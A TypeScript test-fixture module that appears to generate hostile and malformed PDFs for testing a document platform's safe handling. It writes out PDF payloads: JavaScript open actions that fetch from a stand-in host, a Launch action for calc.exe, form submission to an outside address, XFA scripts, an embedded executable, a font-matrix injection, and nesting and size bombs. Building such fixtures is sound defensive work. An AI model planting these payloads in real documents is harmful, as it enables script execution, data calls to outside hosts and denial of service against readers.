import { assemblePdf, scannedPdf, taggedPdf } from '#platform/seed/files/pdf.ts'
import { canvas } from '#platform/seed/files/png.ts'

/** What happens when such a file is looked at: its words are there, a sentence says why not, or either of them. */
export type Outcome = 'words' | 'password' | 'damaged' | 'any'

export interface HostilePdf {
  name: string
  bytes: Buffer
  outcome: Outcome
}

export const pdfWords = 'These plain words can be read.'
const away = 'http://away.harbour.example'
const harm = `(globalThis).harmed = 1; app.alert\\(1\\); fetch\\('${away}/js'\\)`

/** A file of one page, with plain words at its top. */
interface Page {
  /** Further entries of the catalogue, of the page and of its resources. */
  catalogue?: string
  page?: string
  resources?: string
  box?: string
  content?: string
  font?: string
  pages?: string
  /** Further objects, from number 7 on. */
  objects?: readonly string[]
}

export function onePage({ objects = [], ...page }: Page): Buffer {
  const content = `BT /F1 12 Tf 60 700 Td (${pdfWords}) Tj ET ${page.content ?? ''}`
  const font = page.font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${page.catalogue ?? ''} >>`,
    page.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${page.box ?? '0 0 595 842'}] /Contents 4 0 R ${page.page ?? ''} ` +
      `/Resources << /Font << /F1 5 0 R >> ${page.resources ?? ''} >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    font,
    '<< /Title (Plan) >>',
    ...objects,
  ]
  return assemblePdf(
    all.map((object) => Buffer.from(object, 'latin1')),
    6,
  )
}

const script = `<< /S /JavaScript /JS (${harm}) >>`
const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${away}/link) >> >>`
const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [60 500 200 520] /AA << /F ${script} /K ${script} /C ${script} >> >>`
const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>${harm}</script></event></subform></template></xdp:xdp>`
const nestedForms = Array.from(
  { length: 500 },
  (_, index) =>
    `<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${8 + index} 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream`,
)
const nestedTags = (depth: number) =>
  Array.from(
    { length: depth },
    (_, index) =>
      `<< /Type /StructElem /S /Sect /P ${index === 0 ? 7 : 7 + index} 0 R /Pg 3 0 R /K [${9 + index} 0 R] >>`,
  )

const hostilePages: readonly [string, Outcome, Page][] = [
  [
    'script when opened',
    'words',
    { catalogue: `/OpenAction ${script} /AA << /WC ${script} >>`, page: `/AA << /O ${script} >>` },
  ],
  ['script by name', 'words', { catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }],
  [
    'address when opened',
    'words',
    { catalogue: `/OpenAction << /S /URI /URI (${away}/open) >>`, page: `/Annots [${link}]` },
  ],
  ['script address', 'words', { catalogue: `/OpenAction << /S /URI /URI (javascript:globalThis.harmed=1) >>` }],
  ['program when opened', 'words', { catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
  [
    'form sent when opened',
    'words',
    { catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${away}/form) >> >>` },
  ],
  [
    'other file when opened',
    'words',
    { catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F (${away}/other.pdf) >> /D [0 /Fit] >>` },
  ],
  [
    'form with scripts',
    'words',
    { catalogue: `/AcroForm << /Fields [7 0 R] /NeedAppearances true >>`, page: '/Annots [7 0 R]', objects: [field] },
  ],
  [
    'XFA form with a script',
    'words',
    {
      catalogue: '/AcroForm << /XFA 7 0 R /Fields [] >>',
      objects: [`<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`],
    },
  ],
  [
    'file inside',
    'words',
    {
      catalogue: '/Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (run.exe) /EF << /F 8 0 R >> >>', '<< /Length 2 >>\nstream\nMZ\nendstream'],
    },
  ],
  [
    'picture elsewhere',
    'words',
    {
      content: '/Im0 Do',
      resources: '/XObject << /Im0 7 0 R >>',
      objects: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${away}/picture) >> /Length 0 >>\nstream\n\nendstream`,
      ],
    },
  ],
  [
    'script in a font',
    'words',
    {
      font: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.harmed=1; //)] /Encoding /WinAnsiEncoding >>`,
    },
  ],
  ['huge page', 'any', { box: '0 0 10000000 10000000' }],
  ['page like a thread', 'any', { box: '0 0 1 14400000' }],
  ['page of no size', 'any', { box: '0 0 0 0' }],
  ['more pages than there are', 'words', { pages: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' }],
  ['pages that hold themselves', 'any', { pages: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>' }],
  [
    'drawing that draws itself',
    'any',
    {
      content: '/X Do',
      resources: '/XObject << /X 7 0 R >>',
      objects: [...nestedForms.slice(0, 1), nestedForms[0]?.replace('8 0 R', '7 0 R') ?? ''],
    },
  ],
  ['drawings in drawings', 'any', { content: '/X Do', resources: '/XObject << /X 7 0 R >>', objects: nestedForms }],
  ['brackets in brackets', 'any', { catalogue: `/X ${'['.repeat(50_000)}` }],
  ['dictionaries in dictionaries', 'any', { catalogue: `/X ${'<</A'.repeat(20_000)}` }],
  [
    'tags in tags',
    'words',
    {
      catalogue: '/MarkInfo << /Marked true >> /StructTreeRoot 7 0 R',
      objects: ['<< /Type /StructTreeRoot /K [8 0 R] >>', ...nestedTags(2_000)],
    },
  ],
  [
    'picture larger than memory',
    'words',
    {
      content: '/Im0 Do',
      resources: '/XObject << /Im0 7 0 R >>',
      objects: [
        '<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 1 >>\nstream\n0\nendstream',
      ],
    },
  ],
]

/** PDF files that try to run, to ask elsewhere, or to take the page with them. */
export const hostilePdfs: readonly HostilePdf[] = hostilePages.map(([name, outcome, page]) => ({
  ...{ name, outcome },
  bytes: onePage(page),
}))

const whole = onePage({})
const locked = `/Filter /Standard /V 1 /R 2 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) /P -4`
const lockedFile = Buffer.from(
  whole
    .toString('latin1')
    .replace('/Info 6 0 R', () => `/Info 6 0 R /Encrypt << ${locked} >> /ID [(0123456789abcdef) (0123456789abcdef)]`),
  'latin1',
)

const misplaced = Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1')

/** Files that cannot be shown, and ones that can though they are broken. */
export const brokenPdfs: readonly HostilePdf[] = [
  { name: 'with a password', outcome: 'password', bytes: lockedFile },
  { name: 'only its beginning', outcome: 'damaged', bytes: whole.subarray(0, 60) },
  { name: 'a table in the wrong place', outcome: 'words', bytes: misplaced },
  { name: 'rubbish', outcome: 'damaged', bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_000, 0x5b)]) },
]

/** An agenda of two pages' worth of words, and a scan. */
export const agendaPdf = (): Buffer =>
  taggedPdf({ title: 'Agenda', lines: ['# Agenda', 'Ramps at the library', '# Doors', 'Automatic doors'] })
export const scanPdf = (): Buffer => scannedPdf('Scan', canvas(60, 80, [230, 230, 230]))

/** Plain pages, so many of them. */
export function pagesPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${4 + index * 2} 0 R`).join(' ')
  const pages = Array.from({ length: count }, (_, index) => {
    const content = `BT /F1 12 Tf 60 700 Td (Words of page ${index + 1}) Tj ET`
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + index * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ]
  }).flat()
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages,
    '<< /Title (Pages) >>',
  ]
  return assemblePdf(
    objects.map((object) => Buffer.from(object, 'latin1')),
    objects.length,
  )
}
